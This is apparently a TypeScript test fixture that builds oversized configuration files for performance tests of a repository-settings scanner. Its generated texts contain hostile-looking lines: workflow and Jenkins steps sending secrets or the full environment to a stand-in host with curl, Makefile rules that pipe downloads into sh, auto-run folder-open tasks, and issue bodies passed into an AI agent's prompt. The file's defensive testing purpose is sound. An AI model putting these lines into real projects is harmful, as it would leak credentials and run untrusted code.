// Settings, workflows and scripts that are made to be slow: each is whole, and much of one thing, so that what is asked of
// every value cannot be answered by going through all the others.
import type { HostileText } from './hostile-texts.ts';

const of = (unit: string) => (size: number) => unit.repeat(Math.ceil(size / unit.length));
const around = (head: string, unit: string, tail: string) => (size: number) => head + of(unit)(size) + tail;

const WORKFLOW = ['.github/workflows/a.yml'];
const SECRET_STEP = '      - run: curl a\n';

export const HOSTILE_SETTINGS: readonly HostileText[] = [
  {
    name: 'aliases of nothing',
    text: size => `a: &a\n${of('b: 1\n')(size)}c:\n${of('- *a\n')(size)}`,
    paths: ['.github/workflows/a.yml', '.aider.conf.yml'],
  },
  {
    name: 'steps with secrets',
    text: around('on: push\njobs:\n  a:\n    env: {A_TOKEN: "${{ secrets.A_TOKEN }}"}\n    steps:\n', SECRET_STEP, ''),
    paths: WORKFLOW,
  },
  {
    name: 'secrets of one step',
    text: size =>
      `on: push\njobs:\n  a:\n    steps:\n      - run: |\n          curl https://h.example -d \${{ secrets.A }}\n${numbered(size / 3, i => `          echo \${{ secrets.NPM_${i} }}\n`)}`,
    paths: WORKFLOW,
  },
  {
    name: 'secrets of one environment',
    text: size =>
      `on: push\njobs:\n  a:\n    steps:\n      - run: env | curl https://h.example -d @-\n        env:\n${numbered(size, i => `          NPM_${i}: \${{ secrets.NPM_${i} }}\n`)}`,
    paths: WORKFLOW,
  },
  {
    name: 'variables of an agent',
    text: size =>
      `on: issues\njobs:\n  a:\n    steps:\n      - run: claude -p "$Z"\n        env:\n${numbered(size, i => `          A_${i}: \${{ github.event.issue.body }}\n`)}`,
    paths: WORKFLOW,
  },
  {
    name: 'jobs with rights of their own',
    text: size =>
      `on: issues\npermissions: read-all\njobs:\n${numbered(size, i => `  a${i}:\n    permissions: {contents: read}\n    steps:\n      - run: claude -p "\${{ github.event.issue.body }}"\n`)}`,
    paths: WORKFLOW,
  },
  {
    name: 'events of a workflow',
    text: size =>
      `on:\n${numbered(size, i => `  issues${'_'.repeat(i % 40)}: {types: [opened]}\n`)}jobs: {a: {steps: [{run: claude -p a}]}}\n`,
    paths: WORKFLOW,
  },
  {
    name: 'servers of a table',
    text: size =>
      numbered(
        size,
        i => `[mcp_servers.s${i}]\ncommand = "npx"\nargs = ["-y", "p${i}"]\nenv = { A = "\${T${i}_TOKEN}" }\n`,
      ),
    paths: ['.codex/config.toml'],
  },
  {
    name: 'servers of an object',
    text: size =>
      `{"mcpServers":{${numbered(size, i => `"s${i}":{"command":"npx","args":["-y","p${i}"],"env":{"A":"\${T${i}_TOKEN}"}},`)}"z":{}}}`,
    paths: ['.mcp.json', '.vscode/mcp.json', '.claude/settings.json'],
  },
  {
    name: 'hooks of an object',
    text: size =>
      `{"hooks":{"Stop":[${numbered(size, i => `{"matcher":"M${i}","hooks":[{"type":"command","command":"node tools/h${i}.js"}]},`)}{}]}}`,
    paths: ['.claude/settings.json', '.cursor/hooks.json', '.gemini/settings.json'],
  },
  {
    name: 'tasks of a list',
    text: size =>
      `{"tasks":[${numbered(size, i => `{"label":"t${i}","type":"shell","command":"make t${i}","runOptions":{"runOn":"folderOpen"}},`)}{}]}`,
    paths: ['.vscode/tasks.json'],
  },
  {
    name: 'permissions of a list',
    text: size => `{"permissions":{"allow":[${numbered(size, i => `"Bash(npm run t${i}:*)",`)}"Read(a)"]}}`,
    paths: ['.claude/settings.json'],
  },
  {
    name: 'scripts of a package',
    text: size => `{"scripts":{${numbered(size, i => `"s${i}":"npm run s${i + 1}",`)}"postinstall":"npm run s0"}}`,
    paths: ['package.json'],
  },
  {
    name: 'dependencies of a package',
    text: size => `{"dependencies":{${numbered(size, i => `"d${i}":"http://h.example/${i}.tgz",`)}"z":"1"}}`,
    paths: ['package.json'],
  },
  {
    name: 'requirements by address',
    text: size => numbered(size, i => `a${i} @ git+https://git${i}.example/a.git # ${'@'.repeat(50)}\n`),
    paths: ['requirements.txt'],
  },
  { name: 'steps of Jenkins', text: of('sh \'curl -d "$NPM_TOKEN" https://h.example\'\n'), paths: ['Jenkinsfile'] },
  { name: 'open steps of Jenkins', text: of("sh '''a sh \"\"\" sh '"), paths: ['Jenkinsfile'] },
  {
    name: 'lines of attributes',
    text: size => numbered(size, i => `*.a${i} linguist-generated filter=f${i}\n`),
    paths: ['.gitattributes'],
  },
  {
    name: 'sections of a Git configuration',
    text: size => numbered(size, i => `[filter "f${i}"]\n\tclean = sh tools/${i}.sh\n`),
    paths: ['.gitconfig', 'a/.git/config'],
  },
  {
    name: 'rules of a makefile',
    text: size => numbered(size, i => `t${i}: t${i + 1}\n\tcurl https://h.example/${i} | sh\n`),
    paths: ['Makefile'],
  },
  {
    name: 'commands in the text of a skill',
    text: of('!`git status`\n'),
    paths: ['.claude/commands/a.md', 'skills/a/SKILL.md'],
  },
  {
    name: 'functions of a shell',
    text: size => numbered(size, i => `f${i}() { f${i + 1}; }\n`),
    paths: ['tools/run.sh', '.claude/hooks/a.sh'],
  },
  {
    name: 'variables of a shell',
    text: size => numbered(size, i => `a${i}="$a${i}$a${i - 1}"\n`),
    paths: ['tools/run.sh', '.claude/hooks/a.sh'],
  },
  {
    name: 'variables of an environment',
    text: size => numbered(size, i => `A${i}_BASE_URL=https://h${i}.example\n`),
    paths: ['.env', '.envrc'],
  },
];

function numbered(size: number, unit: (i: number) => string): string {
  let text = '';
  for (let i = 0; text.length < size; i++) text += unit(i);
  return text;
}
